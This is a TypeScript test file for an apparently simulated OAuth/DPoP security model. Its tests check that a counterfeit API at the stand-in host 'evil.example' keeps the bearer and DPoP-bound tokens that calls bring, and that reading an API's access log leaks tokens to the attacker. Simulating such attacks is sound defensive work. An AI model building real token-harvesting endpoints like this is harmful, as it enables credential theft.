import { describe, expect, test } from "vitest";
import { attackerMemory, lanes } from "../../cast/cast";
import { get, type HeaderList, post } from "../../http/message";
import { startBench } from "../../testing/bench";
import { seeded } from "../../world/dice";
import { recall } from "../../world/world";
import { createNetwork } from "../network";
import { readAccessLog } from "./leaked-call";

const EVIL = "https://evil.example";
const lane = { ...lanes.attacker, base: EVIL };
const BOUND: HeaderList = [
	["Authorization", "DPoP the.bound.token"],
	["DPoP", "the.proof"],
];

async function bench() {
	const { world, settings } = await startBench();
	world.memory.attacker = { ...attackerMemory(), counterfeits: true };
	const network = createNetwork([lane], world, settings, seeded(world, settings.seed));
	return { network, world, attacker: () => recall(world, "attacker", "attacker") };
}

describe("a counterfeit API", () => {
	test.each([
		[[["Authorization", "Bearer a.b.c"]], { accessToken: "a.b.c" }],
		[BOUND, { accessToken: "the.bound.token", proof: "the.proof" }],
		[[["Authorization", "Basic a.b.c"]], {}],
		[[], {}],
	] as const)("keeps what a call brings: %j", async (headers, kept) => {
		const { network, attacker } = await bench();
		const { response } = await network.deliver(get(`${EVIL}/photos`, headers));
		expect(response).toMatchObject({ status: 200, body: '{"photos":[]}' });
		expect(attacker()).toEqual({ ...attackerMemory(), counterfeits: true, ...kept });
	});

	test("answers as such an API does, at its own path and to its own method", async () => {
		const { network, attacker } = await bench();
		expect((await network.deliver(get(`${EVIL}/albums`, BOUND))).response.status).toBe(404);
		expect((await network.deliver(post(`${EVIL}/photos`, "", BOUND))).response.status).toBe(405);
		expect(attacker().accessToken).toBeUndefined();
	});
});

describe("the log of an API", () => {
	test("gives the newest call, as it came", async () => {
		const { network, world, attacker } = await bench();
		world.memory.rs = { ...recall(world, "rs", "rs"), accessLog: [[["Authorization", "Bearer old"]], BOUND] };
		expect(readAccessLog(network.contextOf(lane), "rs")).toEqual([
			{ name: "access_token", text: "the.bound.token" },
			{ name: "DPoP", text: "the.proof" },
		]);
		expect(attacker()).toMatchObject({ accessToken: "the.bound.token", proof: "the.proof" });
	});

	test("of an API that keeps none gives nothing", async () => {
		const { network, attacker } = await bench();
		expect(readAccessLog(network.contextOf(lane), "rs")).toEqual([]);
		expect(attacker().accessToken).toBeUndefined();
	});
});
